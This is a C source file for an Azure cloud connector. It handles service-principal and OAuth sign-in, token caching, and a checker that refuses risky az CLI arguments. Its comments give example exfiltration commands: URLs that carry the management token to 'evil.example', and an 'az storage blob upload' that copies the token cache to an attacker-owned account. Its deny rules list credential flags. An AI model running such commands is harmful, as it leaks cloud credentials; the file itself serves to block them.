/* connector_azure.c — Microsoft Azure: a service principal (App registration
 * + client secret), or an interactive sign-in through that App registration.
 *
 *   POST /azure/connect   {tenant_id, client_id, client_secret, subscription_id?}
 *                         client-credentials token from
 *                         <AZURE_LOGIN_BASE>/<tenant>/oauth2/v2.0/token (scope
 *                         https://management.azure.com/.default), then the
 *                         subscriptions the principal can see
 *                         (<AZURE_MANAGEMENT_BASE>/subscriptions?api-version=2020-01-01,
 *                         nextLink followed up to AZURE_MAX_SUBSCRIPTION_PAGES
 *                         pages, only on the management host).  None Enabled:
 *                         "No enabled subscription found".  The client secret
 *                         goes to the secrets backend
 *                         (aurora/orgs/<org>/users/<uid>/azure/client-secret).
 *   GET  /azure/login     302 to <login>/<tenant|organizations>/oauth2/v2.0/authorize
 *                         for the App registration of AZURE_CLIENT_ID, with an
 *                         OAuth state (oauth.h) bound to the caller
 *   GET  /azure/callback  the redirect (AZURE_REDIRECT_URI, default
 *                         http://localhost:5080/azure/callback): state checked,
 *                         code exchanged, subscriptions listed, refresh token
 *                         stored (aurora/orgs/<org>/users/<uid>/azure/refresh-token)
 *
 * Status and disconnect: GET /api/connectors/status, DELETE /api/connectors/azure.
 *
 * cloud_exec for `az`: prepare() mints a short-lived Azure Resource Manager
 * access token (client credentials, or the stored refresh token) and hands
 * the agent only that token (AZURE_ACCESS_TOKEN, AZURE_ACCESS_TOKEN_EXPIRES_ON),
 * the subscription (AZURE_SUBSCRIPTION_ID) and tenant (AZURE_TENANT_ID); the
 * client secret and refresh token never leave the server.  Tokens are cached
 * per (org, user, credential) until 5 minutes before they expire.
 *
 * The OAuth flow (state, PKCE S256 — Microsoft supports it —, code exchange,
 * refresh with rotation, error codes), the credential storage and the token
 * cache are the connector kit's (kit_*.h).  Microsoft has no OAuth token
 * revocation endpoint: a disconnect deletes the refresh token only. */
#include <cjson/cJSON.h>
#include <openssl/crypto.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#include "api_util.h"
#include "connector.h"
#include "crypto.h"
#include "http_client.h"
#include "jwt.h"
#include "kit_cache.h"
#include "kit_call.h"
#include "kit_oauth.h"
#include "kit_secrets.h"
#include "log.h"
#include "router.h"

#define AZ_ID "azure"
#define AZ_SCOPE_APP "https://management.azure.com/.default"
#define AZ_SCOPE_USER "https://management.azure.com/user_impersonation offline_access openid profile"
#define AZ_API_VERSION "2020-01-01"
#define AZ_MAX_SUBSCRIPTIONS 1000
#define AZ_MAX_NAME 256
#define MSG_NO_SUB "No enabled subscription found"

extern const connector connector_azure;

static const config_def az_settings[] = {
    { "AZURE_LOGIN_BASE", "azure.login_base", CFG_STRING, "https://login.microsoftonline.com", "Azure connector: Microsoft identity platform base URL (<base>/<tenant>/oauth2/v2.0/{authorize,token})", 0 },
    { "AZURE_MANAGEMENT_BASE", "azure.management_base", CFG_STRING, "https://management.azure.com", "Azure connector: Azure Resource Manager base URL", 0 },
    { "AZURE_REDIRECT_URI", "azure.redirect_uri", CFG_STRING, "http://localhost:5080/azure/callback", "Azure connector: OAuth redirect URI; must equal the App registration's exactly", 0 },
    { "AZURE_CLIENT_ID", "azure.client_id", CFG_STRING, NULL, "Azure connector: application (client) id of the App registration used by GET /azure/login", 0 },
    { "AZURE_CLIENT_SECRET", NULL, CFG_STRING, NULL, "Azure connector: client secret of that App registration", 1 },
    { "AZURE_TENANT_ID", "azure.tenant_id", CFG_STRING, NULL, "Azure connector: directory (tenant) id for GET /azure/login (default: organizations)", 0 },
    { "AZURE_MAX_SUBSCRIPTION_PAGES", "azure.max_subscription_pages", CFG_INT, "20", "Azure connector: most subscription list pages read when connecting", 0 },
    { NULL },
};

static const kit_oauth_errors az_errors = {
    .service = "Azure sign-in (Microsoft identity platform)",
    .timeout = "AZURE_TIMEOUT",
    .unreachable = "AZURE_UNREACHABLE",
    .grant = "AZURE_GRANT_INVALID",
    .denied = "AZURE_INVALID_CREDENTIALS",
    .failed = "AZURE_LOGIN_ERROR",
    .authorization_failed = "AZURE_AUTHORIZATION_FAILED",
    .redirect_mismatch = "AZURE_REDIRECT_URI_MISMATCH",
};

/* The refresh of a signed-in user's grant: only a refusal (4xx) says to
 * sign in again; a timeout or a 5xx is the identity platform's trouble and
 * the next command tries again. */
static const kit_oauth_errors az_refresh_errors = {
    .service = "Azure sign-in (Microsoft identity platform)",
    .timeout = "AZURE_TIMEOUT",
    .unreachable = "AZURE_UNREACHABLE",
    .grant = "AZURE_GRANT_INVALID",
    .denied = "AZURE_INVALID_CREDENTIALS",
    .failed = "AZURE_LOGIN_ERROR",
    .denied_hint = "the sign-in has expired or was revoked; sign in again",
    .grant_hint = "the sign-in has expired or was revoked; sign in again",
    .authorization_failed = "AZURE_AUTHORIZATION_FAILED",
    .redirect_mismatch = "AZURE_REDIRECT_URI_MISMATCH",
};

static kit_cache g_tokens = KIT_CACHE_INIT(4096);

/* ---- settings and small helpers ----------------------------------------------- */

static long timeout_ms(const worker_ctx *w)
{
    return connector_timeout_ms(w, &connector_azure);
}

static const char *setting(const worker_ctx *w, const char *name, const char *dflt)
{
    const char *v = server_setting(w->cfg, name);
    return v ? v : dflt;
}

static const char *login_base(const worker_ctx *w)
{
    return setting(w, "AZURE_LOGIN_BASE", "https://login.microsoftonline.com");
}

static const char *mgmt_base(const worker_ctx *w)
{
    return setting(w, "AZURE_MANAGEMENT_BASE", "https://management.azure.com");
}

static const char *redirect_uri(const worker_ctx *w)
{
    return setting(w, "AZURE_REDIRECT_URI", "http://localhost:5080/azure/callback");
}

static int max_pages(const worker_ctx *w)
{
    int64_t n = server_setting_int(w->cfg, "AZURE_MAX_SUBSCRIPTION_PAGES");
    return n < 1 ? 20 : n > 1000 ? 1000 : (int)n;
}

static int is_hex(char c)
{
    return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}

/* 8-4-4-4-12 hex digits. */
static int guid_valid(const char *s)
{
    static const int groups[] = { 8, 4, 4, 4, 12 };
    const char *p = s;
    for (int g = 0; g < 5; g++) {
        for (int i = 0; i < groups[g]; i++, p++)
            if (!is_hex(*p))
                return 0;
        if (g < 4 && *p++ != '-')
            return 0;
    }
    return *p == '\0';
}

/* A tenant: a GUID or a verified domain (contoso.onmicrosoft.com). */
static int tenant_valid(const char *s, int allow_multi)
{
    if (guid_valid(s))
        return 1;
    if (!strcmp(s, "organizations") || !strcmp(s, "common"))
        return allow_multi;
    size_t n = strlen(s);
    if (n < 3 || n > 253 || !strchr(s, '.') || s[0] == '.' || s[0] == '-')
        return 0;
    for (const char *p = s; *p; p++)
        if (!((*p >= 'a' && *p <= 'z') || (*p >= 'A' && *p <= 'Z') || (*p >= '0' && *p <= '9') ||
              *p == '.' || *p == '-'))
            return 0;
    return 1;
}


/* The App registration (AZURE_CLIENT_ID) against one tenant's endpoints. */
typedef struct {
    kit_oauth_client c;
    char authorize[768], token[768];
} az_client;

static void client_for(const worker_ctx *w, const char *tenant, az_client *ac)
{
    kit_url_fmt(ac->authorize, sizeof(ac->authorize), login_base(w), "/%s/oauth2/v2.0/authorize",
                tenant);
    kit_url_fmt(ac->token, sizeof(ac->token), login_base(w), "/%s/oauth2/v2.0/token", tenant);
    ac->c = (kit_oauth_client){ .provider = AZ_ID,
                                .authorize_url = ac->authorize,
                                .token_url = ac->token,
                                .client_id = server_setting(w->cfg, "AZURE_CLIENT_ID"),
                                .client_secret = server_setting(w->cfg, "AZURE_CLIENT_SECRET"),
                                .redirect_uri = redirect_uri(w),
                                .scope = AZ_SCOPE_USER,
                                .extra_params = "response_mode=query&prompt=select_account",
                                .pkce = 1,
                                .timeout_ms = timeout_ms(w),
                                .errors = &az_errors };
}

/* client-credentials grant for a service principal: the token answer or NULL with resp. */
static cJSON *sp_token(const worker_ctx *w, const char *tenant, const char *client,
                       const char *secret, http_response *resp)
{
    az_client ac;
    client_for(w, tenant, &ac);
    const char *form[] = { "grant_type", "client_credentials", "client_id", client,
                           "client_secret", secret, "scope", AZ_SCOPE_APP, NULL };
    oauth_result r;
    cJSON *tok = kit_oauth_token_post(ac.token, form, NULL, ac.c.timeout_ms, &r);
    if (!tok) {
        log_warn("azure: client-credentials token for client %s failed: %s", client, r.err);
        kit_oauth_error(&ac.c, &r, "Azure service principal login failed", resp);
    }
    return tok;
}

/* ---- subscriptions ------------------------------------------------------------------ */

static const kit_call_errors arm_errors = {
    .service = "Azure Resource Manager",
    .timeout = "AZURE_TIMEOUT",
    .unreachable = "AZURE_UNREACHABLE",
    .denied = "AZURE_MANAGEMENT_DENIED",
    .failed = "AZURE_MANAGEMENT_ERROR",
};

/* One page's subscriptions into subs (a cJSON array); 0, or -1 when the
 * page has no list. */
static int add_subscriptions(const kit_call_resp *r, void *subs)
{
    cJSON *j = kit_call_json(r);
    const cJSON *val = cJSON_IsObject(j) ? cJSON_GetObjectItemCaseSensitive(j, "value") : NULL;
    const cJSON *it;
    int ok = cJSON_IsArray(val);
    cJSON_ArrayForEach(it, val)
    {
        const char *id = api_json_str(it, "subscriptionId");
        const char *name = api_json_str(it, "displayName");
        const char *state = api_json_str(it, "state");
        if (!id || !guid_valid(id) || cJSON_GetArraySize(subs) >= AZ_MAX_SUBSCRIPTIONS)
            continue;
        cJSON *s = cJSON_CreateObject();
        cJSON_AddStringToObject(s, "id", id);
        /* kept in the row every cloud_exec reads: a hostile answer's
         * kilobytes are not (Azure allows 64-character display names) */
        cJSON_AddStringToObject(s, "name", name && strlen(name) <= AZ_MAX_NAME ? name : "");
        cJSON_AddStringToObject(s, "state", state && strlen(state) <= 32 ? state : "");
        cJSON_AddItemToArray(subs, s);
    }
    cJSON_Delete(j);
    return ok ? 0 : -1;
}

/* Lists the subscriptions the token sees into *out (array of {id, name,
 * state}), following nextLink (kit pager: never off AZURE_MANAGEMENT_BASE,
 * at most AZURE_MAX_SUBSCRIPTION_PAGES pages).  0, or -1 with resp filled. */
static int list_subscriptions(worker_ctx *w, const char *access_token, cJSON **out,
                              http_response *resp)
{
    const char *base = mgmt_base(w);
    char *url = kit_url(base, "/subscriptions?api-version=" AZ_API_VERSION);
    const char *headers[] = { "Accept: application/json", NULL };
    kit_call_req q = { .provider = "Azure Resource Manager", .base_url = base, .url = url,
                       .headers = headers, .bearer = access_token,
                       .attempt_timeout_ms = timeout_ms(w), .deadline_ms = timeout_ms(w),
                       .max_response = 4 * 1024 * 1024 };
    kit_pager_cfg pc = { .style = KIT_PAGE_BODY_URL, .cursor_field = "nextLink",
                         .max_pages = max_pages(w) };
    cJSON *subs = cJSON_CreateArray();
    kit_walk wk;
    int rc = subs ? kit_pager_walk(&q, &pc, add_subscriptions, subs, &wk) : AUR_E_INTERNAL;
    if (!subs) {
        http_resp_error(resp, 500, "INTERNAL", "out of memory");
    } else if (rc == AUR_OK && wk.capped) {
        log_warn("azure: stopped listing subscriptions after %d pages", wk.pages);
    } else if (wk.bad_page) {
        http_resp_error(resp, 502, "AZURE_MANAGEMENT_ERROR",
                        "Azure Resource Manager answered an unexpected subscription list");
    } else if (wk.refused) {
        http_resp_error(resp, 502, "AZURE_MANAGEMENT_ERROR",
                        "Azure Resource Manager answered a nextLink outside "
                        "AZURE_MANAGEMENT_BASE; not followed");
    } else if (rc != AUR_OK) {
        char code[64], suffix[128];
        cJSON *j = kit_call_json(&wk.last);
        kit_code_text(kit_json_path_string(j, "error.code"), code, sizeof(code));
        cJSON_Delete(j);
        snprintf(suffix, sizeof(suffix), "%s%s while listing subscriptions", code[0] ? " " : "",
                 code);
        kit_call_error(&arm_errors, &wk.last, NULL, timeout_ms(w), suffix, resp);
    }
    if (subs)
        kit_walk_free(&wk);
    free(url);
    if (rc != AUR_OK) {
        cJSON_Delete(subs);
        return -1;
    }
    *out = subs;
    return 0;
}

/* The requested subscription if it is listed and Enabled, else the first
 * Enabled one; NULL when none is. */
static const char *pick_subscription(const cJSON *subs, const char *wanted)
{
    const cJSON *it;
    const char *first = NULL;
    cJSON_ArrayForEach(it, subs)
    {
        const char *id = api_json_str(it, "id"), *state = api_json_str(it, "state");
        if (!id || !state || strcmp(state, "Enabled"))
            continue;
        if (wanted && !strcasecmp(id, wanted))
            return id;
        if (!first)
            first = id;
    }
    return wanted ? NULL : first;
}


/* The token cache's key: the connection's key_id (metadata), a random id
 * new at every connect, so that a token minted for a replaced connection
 * (by a command in flight during the connect, or on another replica, whose
 * cache the connect does not forget) is never found for the new one.  The
 * key was the tenant and the client id, which another user signing in to
 * the same tenant (or a new secret of the same principal) does not change.
 * Rows made before key_id: those and the row's updated_at. */
#define META_KEY_ID KIT_CACHE_KEY_ID

/* The connection's one credential (a client secret or a refresh token) and
 * its row; the token cache of the user starts afresh. */
static int save_connection(worker_ctx *w, const char *org, const char *user, const char *auth,
                           const char *account, const char *field, const char *secret, cJSON *md,
                           http_response *resp)
{
    cJSON_AddStringToObject(md, "auth", auth);
    if (kit_cache_add_key_id(md) < 0) {
        http_resp_error(resp, 500, "INTERNAL", "out of memory");
        return -1;
    }
    kit_field f = { field, secret };
    if (kit_connect_store(w, org, user, AZ_ID, account, &f, 1, md, resp) < 0)
        return -1;
    kit_cache_forget(&g_tokens, org, user);
    return 0;
}

/* The cache key of a connection's credential (md: its metadata). */
static void token_key(char *out, size_t cap, const char *org, const char *user, const cJSON *md,
                      int64_t updated_at)
{
    char rest[640];
    const char *id = api_json_str(md, META_KEY_ID), *auth = api_json_str(md, "auth"),
               *tenant = api_json_str(md, "tenant_id"), *client = api_json_str(md, "client_id");
    if (id && *id)
        snprintf(rest, sizeof(rest), "k:%.48s", id);
    else
        snprintf(rest, sizeof(rest), "%s\n%.253s\n%.253s\n%lld",
                 auth && !strcmp(auth, "oauth") ? "oauth" : "sp", tenant ? tenant : "",
                 client ? client : "", (long long)updated_at);
    kit_cache_key(out, cap, org, user, rest);
}

/* ---- POST /azure/connect (service principal) ----------------------------------------- */

static void sp_connect(worker_ctx *w, http_request *req, http_response *resp)
{
    if (connector_require_user(&req->auth, resp) < 0 || connector_secrets_ready(w, resp) < 0)
        return;
    cJSON *body = http_json_body(req, resp);
    if (!body)
        return;
    const char *tenant = api_json_str(body, "tenant_id");
    const char *client = api_json_str(body, "client_id");
    const char *secret = api_json_str(body, "client_secret");
    const char *wanted = api_json_str(body, "subscription_id");
    char err[160];
    cJSON *tok = NULL, *subs = NULL, *md = NULL;
    if (api_check_text(tenant, "tenant_id", 1, 253, err, sizeof(err)) < 0 ||
        api_check_text(client, "client_id", 1, 64, err, sizeof(err)) < 0 ||
        api_check_text(secret, "client_secret", 1, 1024, err, sizeof(err)) < 0) {
        http_resp_error(resp, 400, "BAD_REQUEST", "%s", err);
        goto out;
    }
    if (!tenant_valid(tenant, 0)) {
        http_resp_error(resp, 400, "BAD_REQUEST",
                        "tenant_id must be the directory (tenant) id, a GUID, or its domain");
        goto out;
    }
    if (!guid_valid(client)) {
        http_resp_error(resp, 400, "BAD_REQUEST",
                        "client_id must be the application (client) id, a GUID");
        goto out;
    }
    if (wanted && !guid_valid(wanted)) {
        http_resp_error(resp, 400, "BAD_REQUEST", "subscription_id must be a GUID");
        goto out;
    }
    tok = sp_token(w, tenant, client, secret, resp);
    if (!tok)
        goto out;
    const char *at = api_json_str(tok, "access_token");
    if (!at || !*at) {
        http_resp_error(resp, 502, "AZURE_LOGIN_ERROR", "Azure sign-in answered without an access token");
        goto out;
    }
    if (list_subscriptions(w, at, &subs, resp) < 0)
        goto out;
    const char *def = pick_subscription(subs, wanted);
    if (!def) {
        if (wanted)
            http_resp_error(resp, 400, "AZURE_NO_ENABLED_SUBSCRIPTION",
                            MSG_NO_SUB " with id %s: assign Reader/Contributor role to the app in "
                            "that subscription's IAM", wanted);
        else
            http_resp_error(resp, 400, "AZURE_NO_ENABLED_SUBSCRIPTION",
                            MSG_NO_SUB ": assign Reader/Contributor role to the app in subscription IAM");
        goto out;
    }
    md = cJSON_CreateObject();
    cJSON_AddStringToObject(md, "tenant_id", tenant);
    cJSON_AddStringToObject(md, "client_id", client);
    cJSON_AddStringToObject(md, "default_subscription_id", def);
    cJSON_AddItemToObject(md, "subscriptions", subs);
    subs = NULL;
    if (save_connection(w, req->auth.org_id, req->auth.user_id, "service_principal", tenant,
                        "client-secret", secret, md, resp) < 0)
        goto out;
    /* The token just minted serves the first command. */
    {
        char key[1024];
        int64_t now = (int64_t)time(NULL), exp = 0;
        char *t = kit_oauth_access_token(tok, CLOUD_MAX_ENV_VALUE, now, &exp);
        token_key(key, sizeof(key), req->auth.org_id, req->auth.user_id, md, 0);
        if (t)
            kit_cache_put(&g_tokens, key, t, exp, now);
        secret_free(t);
    }
    log_info("azure: user %s of %s connected service principal %s (tenant %s)", req->auth.user_id,
             req->auth.org_id, client, tenant);
    static const char *const drop[] = { META_KEY_ID, NULL };
    kit_connected_reply(resp, AZ_ID, md, drop);
out:
    cJSON_Delete(md);
    cJSON_Delete(subs);
    secret_json_free(tok);
    /* The request body held the client secret. */
    if (secret)
        OPENSSL_cleanse((void *)secret, strlen(secret));
    cJSON_Delete(body);
}


/* ---- GET /azure/login, GET /azure/callback ------------------------------------------------ */

static int app_configured(const worker_ctx *w, http_response *resp)
{
    if (!server_setting(w->cfg, "AZURE_CLIENT_ID") || !server_setting(w->cfg, "AZURE_CLIENT_SECRET")) {
        http_resp_error(resp, 503, "AZURE_OAUTH_NOT_CONFIGURED",
                        "Azure sign-in is not configured: set AZURE_CLIENT_ID and "
                        "AZURE_CLIENT_SECRET (the Aurora App registration)");
        return -1;
    }
    return 0;
}

static void login(worker_ctx *w, http_request *req, http_response *resp)
{
    if (connector_require_user(&req->auth, resp) < 0 || app_configured(w, resp) < 0)
        return;
    char tenant[256] = "", given[1024] = "";
    const char *redirect = redirect_uri(w);
    if (http_query_get(req, "redirect_uri", given, sizeof(given)) && strcmp(given, redirect)) {
        http_resp_error(resp, 400, "AZURE_REDIRECT_URI_MISMATCH",
                        "Invalid redirect_uri: it must equal AZURE_REDIRECT_URI (%s) exactly",
                        redirect);
        return;
    }
    if (!http_query_get(req, "tenant_id", tenant, sizeof(tenant)) || !tenant[0])
        snprintf(tenant, sizeof(tenant), "%s", setting(w, "AZURE_TENANT_ID", "organizations"));
    if (!tenant_valid(tenant, 1)) {
        http_resp_error(resp, 400, "BAD_REQUEST",
                        "tenant_id must be a directory (tenant) id, a domain or organizations");
        return;
    }
    az_client ac;
    client_for(w, tenant, &ac);
    char *url = kit_oauth_authorize_url(w, &req->auth, &ac.c, tenant, resp);
    if (!url)
        return;
    cJSON *o = cJSON_CreateObject();
    cJSON_AddStringToObject(o, "provider", AZ_ID);
    kit_oauth_send_url(resp, 302, url, o);
    free(url);
}

static void callback(worker_ctx *w, http_request *req, http_response *resp)
{
    az_client ac;
    kit_oauth_callback cb;
    client_for(w, "organizations", &ac);
    if (kit_oauth_callback_take(w, req, &ac.c, "Azure sign-in", redirect_uri(w), &cb, resp) < 0)
        return;
    cJSON *tok = NULL, *subs = NULL, *md = NULL, *claims = NULL;
    if (app_configured(w, resp) < 0 || connector_secrets_ready(w, resp) < 0)
        goto out;
    client_for(w, cb.st.extra, &ac);
    tok = kit_oauth_exchange(w, &ac.c, &cb, "Azure sign-in could not be completed", resp);
    if (!tok)
        goto out;
    const char *at = api_json_str(tok, "access_token");
    const char *rt = api_json_str(tok, "refresh_token");
    if (!at || !*at || !rt || !*rt) {
        http_resp_error(resp, 502, "AZURE_LOGIN_ERROR",
                        "Azure sign-in answered without %s (offline_access must be granted)",
                        !at || !*at ? "an access token" : "a refresh token");
        goto out;
    }
    if (list_subscriptions(w, at, &subs, resp) < 0)
        goto out;
    const char *def = pick_subscription(subs, NULL);
    if (!def) {
        http_resp_error(resp, 400, "AZURE_NO_ENABLED_SUBSCRIPTION",
                        MSG_NO_SUB ": assign Reader/Contributor role in subscription IAM");
        goto out;
    }
    claims = jwt_unverified_claims(api_json_str(tok, "id_token"));
    const char *tid = claims ? api_json_str(claims, "tid") : NULL;
    const char *who = claims ? api_json_str(claims, "preferred_username") : NULL;
    if (!who && claims)
        who = api_json_str(claims, "email");
    const char *tenant = tid && tenant_valid(tid, 0) ? tid : cb.st.extra;
    md = cJSON_CreateObject();
    cJSON_AddStringToObject(md, "tenant_id", tenant);
    cJSON_AddStringToObject(md, "client_id", server_setting(w->cfg, "AZURE_CLIENT_ID"));
    if (who)
        cJSON_AddStringToObject(md, "user", who);
    cJSON_AddStringToObject(md, "default_subscription_id", def);
    cJSON_AddItemToObject(md, "subscriptions", subs);
    subs = NULL;
    char account[256];
    snprintf(account, sizeof(account), "%.255s", who ? who : tenant);
    cJSON_AddStringToObject(md, "auth", "oauth");
    if (kit_cache_add_key_id(md) < 0) {
        http_resp_error(resp, 500, "INTERNAL", "out of memory");
        goto out;
    }
    if (kit_oauth_finish(w, &cb, AZ_ID, "refresh-token", account, tok, md, NULL, resp) < 0)
        goto out;
    kit_cache_forget(&g_tokens, cb.st.org_id, cb.st.user_id);
    log_info("azure: user %s of %s signed in (tenant %s)", cb.st.user_id, cb.st.org_id, tenant);
out:
    kit_oauth_callback_wipe(&cb);
    cJSON_Delete(claims);
    cJSON_Delete(md);
    cJSON_Delete(subs);
    secret_json_free(tok);
}


/* ---- status, disconnect ----------------------------------------------------------------------- */

static void az_status(worker_ctx *w, const auth_ctx *who, cJSON *out)
{
    static const char *const keys[] = { "auth", "tenant_id", "client_id", "user",
                                        "default_subscription_id", NULL };
    store_connector c;
    cJSON *md;
    if (!kit_status(w, who, AZ_ID, keys, out, &c, &md))
        return;
    cJSON *subs = md ? cJSON_DetachItemFromObjectCaseSensitive(md, "subscriptions") : NULL;
    if (subs)
        cJSON_AddItemToObject(out, "subscriptions", subs);
    cJSON_Delete(md);
    store_connector_free(&c);
}

static void az_disconnected(worker_ctx *w, const auth_ctx *who)
{
    (void)w;
    kit_cache_forget(&g_tokens, who->org_id, who->user_id);
}

/* ---- cloud_exec -------------------------------------------------------------------------------- */

/* Mints (or reuses) a management token for the stored credential. */
static char *access_token(worker_ctx *w, const auth_ctx *who, const store_connector *c,
                          const cJSON *md, const char *auth, const char *tenant,
                          const char *client, int64_t *expires_at, http_response *resp)
{
    char key[1024];
    int64_t now = (int64_t)time(NULL);
    int oauth = !strcmp(auth, "oauth");
    token_key(key, sizeof(key), who->org_id, who->user_id, md, c->updated_at);
    char *tok = kit_cache_get(&g_tokens, key, now, expires_at);
    if (tok)
        return tok;
    cJSON *j = NULL;
    if (oauth) {
        az_client ac;
        client_for(w, tenant, &ac);
        if (app_configured(w, resp) < 0)
            return NULL;
        ac.c.errors = &az_refresh_errors;
        j = kit_oauth_refresh(w, &ac.c, c->secret_ref, AZ_SCOPE_APP " offline_access",
                              "Azure token refresh failed",
                              "AZURE_NOT_CONNECTED",
                              "the Azure credential is no longer stored; connect Azure again", resp);
    } else {
        unsigned char *secret = NULL;
        size_t len = 0;
        if (kit_secret_get(w, c->secret_ref, &secret, &len, 400, "AZURE_NOT_CONNECTED",
                           "the Azure credential is no longer stored; connect Azure again",
                           resp) < 0)
            return NULL;
        j = sp_token(w, tenant, client, (const char *)secret, resp);
        secrets_free(secret, len);
    }
    if (!j)
        return NULL;
    tok = kit_oauth_access_token(j, CLOUD_MAX_ENV_VALUE, now, expires_at);
    secret_json_free(j);
    if (!tok) {
        http_resp_error(resp, 502, "AZURE_LOGIN_ERROR", "Azure sign-in answered without a usable access token");
        return NULL;
    }
    kit_cache_put(&g_tokens, key, tok, *expires_at, now);
    return tok;
}

/* What an az command may select, and how each is checked (cloud_argv.h
 * reads the argv like az 2.45's argparse; az_check_selectors decides).
 * Every one must be an Enabled subscription of the connection, by id (any
 * case) or by display name when that names exactly one subscription:
 *
 *   --subscription (every command)      the subscription the command runs in
 *   -s (az account …), -n/--name (az account set|show|list-locations|
 *   get-access-token)                   the same, in the profile commands
 *   /subscriptions/<id> anywhere in an argument (--ids, --scope, az rest
 *   --url, percent-encoded or not)      a subscription id; the literal
 *                                       {subscriptionId} (az rest fills in the
 *                                       command's subscription) is allowed
 *   az login                            refused: the connector chooses the
 *                                       identity (--identity would be the pod's)
 *   az rest --url/--uri/-u              az sends the Resource Manager token to a
 *                                       URL that merely starts with the ARM
 *                                       endpoint (url.startswith(
 *                                       resource_manager.rstrip('/')), az 2.45),
 *                                       and makes a URL without "://" relative
 *                                       to it whatever its first character:
 *                                       `.evil.example/x` and
 *                                       `https://management.azure.com@evil.example/`
 *                                       both reach evil.example with the token.
 *                                       A URL without "://" must start with '/';
 *                                       one that starts with AZURE_MANAGEMENT_BASE
 *                                       must go on with '/', '?', '#' or end
 *   az rest --resource                  refused: az sends that resource's token
 *                                       to the --url, whatever its host
 *   --account-key, --connection-string, refused (any command; -c in az iot hub
 *   --sas-token, --<x>-account-key,     routing-endpoint): a credential in the
 *   --<x>-connection-string,            command authenticates as whoever issued
 *   --<x>-sas-token                     it, so `az storage blob upload
 *                                       --account-name evil --account-key K -f
 *                                       .azure/msal_token_cache.json` copies az's
 *                                       token cache to an attacker's account
 *                                       (443 is open); the --<x>- ones send the
 *                                       subscription's data to such a destination
 *                                       (export, copy, routing).  --account-name
 *                                       with --auth-mode key stays: az looks the
 *                                       key up with the connection's token, so
 *                                       only for an account the subscription
 *                                       holds.  az's AZURE_STORAGE_KEY,
 *                                       _CONNECTION_STRING, _SAS_TOKEN variables
 *                                       never come from the server (the agent's
 *                                       allowlist, agent/cloud_az.c)
 *   ?sig= or &sig= in any argument      refused: a SAS inside a URL (--blob-url,
 *   (percent-encoded too)               upload-batch -d, storage copy -d) is the
 *                                       same credential as --sas-token
 * az accepts unambiguous prefixes (`--subs X` is --subscription, checked with
 * the real az): an abbreviation of these flags is refused, as is az's
 * "@file" argument indirection.  Its command words always come first. */
#define AZ_SUB "subscription"
#define AZ_REST_URL "rest URL"
#define AZ_PROFILE_SUB(ctx)                                                                       \
    { .name = "--name", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = ctx }, \
    { .name = "-n", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = ctx }
#define WHY_AZ_CREDENTIAL                                                                   \
    "a credential in the command authenticates as whoever issued it (another account's "    \
    "too); the Azure connector chooses the identity commands run as"
#define AZ_CONNECTOR_FLAGS(ctx)                                                             \
    { .name = "--connection", .context = ctx }, { .name = "--account", .context = ctx }
static const cloud_flag az_flags[] = {
    AZ_PROFILE_SUB("account set"),
    AZ_PROFILE_SUB("account show"),
    AZ_PROFILE_SUB("account list-locations"),
    AZ_PROFILE_SUB("account get-access-token"),
    { .name = "--url", .kind = CLOUD_FLAG_SELECT, .dest = AZ_REST_URL, .context = "rest" },
    { .name = "--uri", .kind = CLOUD_FLAG_SELECT, .dest = AZ_REST_URL, .context = "rest" },
    { .name = "-u", .kind = CLOUD_FLAG_SELECT, .dest = AZ_REST_URL, .context = "rest" },
    { .name = "--resource", .kind = CLOUD_FLAG_REFUSE, .context = "rest",
      .why = "az would send that resource's token to the --url, whatever its host" },
    { .name = "-s", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1, .context = "account" },
    { .name = "--subscription", .kind = CLOUD_FLAG_SELECT, .dest = AZ_SUB, .primary = 1 },
    { .name = "--account-key", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    { .name = "--connection-string", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    { .name = "--sas-token", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    { .name = "--*-account-key", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    { .name = "--*-connection-string", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    { .name = "--*-sas-token", .kind = CLOUD_FLAG_REFUSE, .why = WHY_AZ_CREDENTIAL },
    /* the routing endpoint's --connection-string */
    { .name = "-c", .kind = CLOUD_FLAG_REFUSE, .context = "iot hub routing-endpoint",
      .why = "the --connection-string (-c) of another resource: " WHY_AZ_CREDENTIAL },
    /* full flags that begin like the refused ones (else read as their
     * abbreviations): Data Lake's account, Service Connector's connection */
    { .name = "--account", .context = "dls" }, { .name = "--account", .context = "dla" },
    AZ_CONNECTOR_FLAGS("webapp connection"), AZ_CONNECTOR_FLAGS("functionapp connection"),
    AZ_CONNECTOR_FLAGS("spring connection"), AZ_CONNECTOR_FLAGS("spring-cloud connection"),
    AZ_CONNECTOR_FLAGS("containerapp connection"),
    /* value shorthands that `az account …` commands share: "-otsv" is -o tsv */
    { .name = "-o", .context = "account" }, { .name = "-g", .context = "account" },
    { .name = "-n", .context = "account" }, { .name = "-t", .context = "account" },
    { .name = NULL },
};
static const cloud_cmd az_cmds[] = {
    { .words = "login", .why = "the Azure connector chooses the identity commands run as" },
    { .words = NULL },
};
#define WHY_AZ_SAS                                                                           \
    "it holds a shared access signature (sig=), a credential that authenticates as whoever " \
    "signed it; the Azure connector chooses the identity commands run as"
static const cloud_ref az_refs[] = {
    { .prefix = "/subscriptions/", .dest = AZ_SUB },
    /* a SAS in a URL's query (--blob-url, upload-batch -d, storage copy) */
    { .prefix = "?sig=", .why = WHY_AZ_SAS }, { .prefix = "&sig=", .why = WHY_AZ_SAS },
    { .prefix = NULL, .suffix = NULL },
};
static const cloud_cli az_argv = {
    .program = "az", .flags = az_flags, .cmds = az_cmds, .refs = az_refs,
    .abbrev = 1, .at_files = 1, .commands_first = 1,
};

/* The Enabled subscription v names (id in any case, or a display name that
 * names one subscription only) into *id; 0, or -1 (none, not Enabled, or an
 * ambiguous name). */
static int az_resolve(const cJSON *subs, const char *v, int by_name, const char **id)
{
    const cJSON *it, *hit = NULL;
    int n = 0;
